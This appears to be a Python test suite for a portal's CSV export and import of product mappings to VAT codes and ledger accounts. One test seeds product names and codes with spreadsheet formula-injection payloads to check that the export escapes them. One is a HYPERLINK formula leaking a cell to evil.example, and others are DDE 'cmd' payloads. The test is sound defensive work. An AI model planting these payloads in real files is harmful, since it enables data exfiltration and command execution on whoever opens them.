"""CSV export and import of product mappings: round trip, all or nothing, row-level errors."""

from __future__ import annotations

import html
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from portal.mappings.csvio import parse_csv, write_csv
from portal.models import AuditEvent, Mapping, Product

from .conftest import GOOD_DEFAULTS


def _overrides(db, connection_id) -> dict:
    db.session.expire_all()
    rows = db.session.scalars(
        db.select(Mapping).where(Mapping.connection_id == connection_id, Mapping.product_id.is_not(None))
    )
    return {(m.product_id, m.field): m.value for m in rows}


def _upload(mapper, content: bytes | str, name: str = "mappings.csv"):
    data = content.encode() if isinstance(content, str) else content
    return mapper.flow.client.post(
        f"{mapper.base}/import",
        data={"csrf_token": mapper.flow.token, "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def _org_products(db, connection_id) -> list[tuple[int, str]]:
    """Return (id, SaaS id) of the connection's organization's products."""
    from portal.models import Connection

    connection = db.session.get(Connection, connection_id)
    org_id = connection.business_unit.organization_id
    stmt = db.select(Product.id, Product.external_id).where(Product.organization_id == org_id)
    return [tuple(r) for r in db.session.execute(stmt.order_by(Product.id)).all()]


#: The demo division's VAT code of each rate (sandbox/exact: 0 → "0", 9 → "1", 21 → "2").
EXACT_CODE = {"0": "0", "9": "1", "21": "2"}


def _exact_code(db, product_id: int, *, other: bool = False) -> str:
    """Return the VAT code at the product's rate (or, with ``other``, one at another rate)."""
    rate = format(db.session.get(Product, product_id).tax_rate.normalize(), "f")
    if other:
        return next(code for r, code in EXACT_CODE.items() if r != rate)
    return EXACT_CODE[rate]


def test_export_import_round_trip(db, connect):
    mapper = connect("exact-online")
    mapper.save_defaults(**GOOD_DEFAULTS["exact-online"])
    (first, first_ext), (second, second_ext) = _org_products(db, mapper.id)[:2]
    # A product's VAT code must have its rate.
    code_1, code_2 = _exact_code(db, first), _exact_code(db, second)
    mapper.save_override(first, tax_code=code_1, gl_account="8010")
    exported = mapper.flow.client.get(f"{mapper.base}/export.csv")
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    assert "attachment" in exported.headers["Content-Disposition"]
    text = exported.get_data(as_text=True)
    assert text.splitlines()[0] == "product_id,product_code,product_name,item,tax_code,gl_account"
    assert any(line.startswith(f"{first_ext},") and line.endswith(f",,{code_1},8010") for line in text.splitlines())

    # Importing the export unchanged changes nothing.
    same = _upload(mapper, text)
    assert same.status_code == 302, same.get_data(as_text=True)
    assert _overrides(db, mapper.id) == {(first, "tax_code"): code_1, (first, "gl_account"): "8010"}

    # Edited: one override removed, one added, in a semicolon file from a spreadsheet, with a BOM.
    edited = f"\ufeffproduct_id;tax_code;gl_account\r\n{first_ext};{code_1};\r\n{second_ext};{code_2};8000\r\n"
    applied = _upload(mapper, edited.encode("utf-8"))
    assert applied.status_code == 302, applied.get_data(as_text=True)
    assert _overrides(db, mapper.id) == {
        (first, "tax_code"): code_1,
        (second, "tax_code"): code_2,
        (second, "gl_account"): "8000",
    }
    event = db.session.scalars(db.select(AuditEvent).where(AuditEvent.kind == "mapping.imported")).one()
    assert event.after == {first_ext: {"gl_account": None}, second_ext: {"tax_code": code_2, "gl_account": "8000"}}


def test_a_row_whose_tax_code_has_another_rate_than_its_product_changes_nothing(db, connect):
    mapper = connect("exact-online")
    (good, good_ext), (bad, bad_ext) = _org_products(db, mapper.id)[:2]
    wrong = _exact_code(db, bad, other=True)
    content = f"product_id,tax_code\n{good_ext},{_exact_code(db, good)}\n{bad_ext},{wrong}\n"

    refused = _upload(mapper, content)

    assert refused.status_code == 400
    body = html.unescape(refused.get_data(as_text=True))
    product = db.session.get(Product, bad)
    rate = format(product.tax_rate.normalize(), "f")
    other = next(r for r, code in EXACT_CODE.items() if code == wrong)
    assert f"Row 3, tax_code: Product {product.code} {product.name} is at {rate} %, but VAT code {wrong}" in body
    assert f"is at {other} %: a product's VAT code must have its rate" in body
    assert _overrides(db, mapper.id) == {}  # not even the good row: all or nothing


def test_a_bad_import_changes_nothing_and_names_every_row(db, connect):
    mapper = connect("bexio")
    products = _org_products(db, mapper.id)
    (_good, good_ext), (_other, other_ext) = products[:2]
    content = (
        "product_id,tax_code,gl_account\n"
        f"{good_ext},UN81,3200\n"  # fine on its own, yet not applied: all or nothing
        "NO-SUCH-PRODUCT,UN81,3200\n"
        f"{other_ext},UN77,9999\n"
    )
    refused = _upload(mapper, content)
    body = refused.get_data(as_text=True).replace("&#39;", "'")
    assert refused.status_code == 400
    assert "Nothing was imported." in body
    assert "Row 3: there is no product with id 'NO-SUCH-PRODUCT' in" in body
    assert "Row 4, tax_code: Sales tax UN77" in body and "is inactive in bexio" in body
    assert "Row 4, gl_account: Revenue account “9999” does not exist in bexio" in body
    assert _overrides(db, mapper.id) == {}
    assert not db.session.scalars(db.select(AuditEvent).where(AuditEvent.kind == "mapping.imported")).all()


MALFORMED = [
    (b"", "The file is empty"),
    (b"sku,tax_code\nA,1\n", "Row 1: unknown column(s) 'sku'"),
    (b"tax_code\n1\n", "Row 1: the column product_id (the SaaS's product id) is missing."),
    (b"product_id,tax_code\nP1,1,extra\n", "Row 2: 3 cell(s), but the header has 2."),
    (b'product_id,tax_code\n"P1,1\n', "malformed CSV"),
    (b"product_id,tax_code\nP1,1\nP1,2\n", "Row 3: product 'P1' is already on row 2."),
    (b"product_id,tax_code\n\xff\xfe1,2\n", "The file is not UTF-8 text"),
    (b"product_id,journal\nP1,70\n", "Row 1: unknown column(s) 'journal'"),  # journals are connection-wide
]


def test_malformed_files_are_refused_precisely(db, connect):
    mapper = connect("exact-online")
    for content, message in MALFORMED:
        refused = _upload(mapper, content)
        body = refused.get_data(as_text=True).replace("&#39;", "'")
        assert refused.status_code == 400, content
        assert message in body, (content, body[body.find("import-errors") :][:600])
    assert _overrides(db, mapper.id) == {}
    assert _upload(mapper, b"", name="").status_code == 400  # no file chosen


FIELDS = ["item", "tax_code", "gl_account"]
cell = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\r\n"), max_size=12)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_the_parser_never_raises_and_always_explains(text):
    parsed = parse_csv(text, FIELDS)
    assert parsed.rows or parsed.errors or text.strip().lower().startswith("product_id")
    for error in parsed.errors:
        assert error.startswith(("Row ", "The file"))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(cell.filter(lambda s: s.strip()), cell, cell, cell),
        max_size=20,
        unique_by=lambda row: row[0].strip(),
    )
)
def test_written_rows_parse_back_to_the_same_values(rows):
    written = write_csv(
        FIELDS,
        [{"product_id": pid, "item": a, "tax_code": b, "gl_account": c} for pid, a, b, c in rows],
    )
    parsed = parse_csv(written, FIELDS)
    assert parsed.errors == []
    expected = [
        (pid.strip(), {"item": a.strip(), "tax_code": b.strip(), "gl_account": c.strip()}) for pid, a, b, c in rows
    ]
    expected = [e for e in expected if any(v for v in (e[0], *e[1].values()))]
    assert [(r.product_id, r.values) for r in parsed.rows] == expected


def test_the_export_guards_formula_cells_and_the_import_reads_them_back(db, connect):
    """Exact repro: product names and codes sent through the API as formulas were written raw."""
    import csv

    mapper = connect("exact-online")
    mapper.save_defaults(**GOOD_DEFAULTS["exact-online"])
    (first, first_ext), (second, _second_ext) = _org_products(db, mapper.id)[:2]
    product = db.session.get(Product, first)
    product.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    product.code = "+cmd|' /C calc'!A0"
    db.session.get(Product, second).name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    code = _exact_code(db, first)
    mapper.save_override(first, tax_code=code)

    exported = mapper.flow.client.get(f"{mapper.base}/export.csv")
    assert exported.headers["Cache-Control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "|", "%", "\t", "\r")), row
    mine = next(r for r in rows if r["product_id"] == first_ext)
    assert mine["product_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert mine["product_code"] == "'+cmd|' /C calc'!A0"
    # The guarded file imports back to the same overrides (the guard is not part of any value).
    assert _upload(mapper, exported.get_data()).status_code == 302
    assert _overrides(db, mapper.id) == {(first, "tax_code"): code}


def test_every_csv_writer_is_the_one_module():
    """One CSV module: no other module writes CSV."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[3] / "portal"
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["csvfiles.py"]
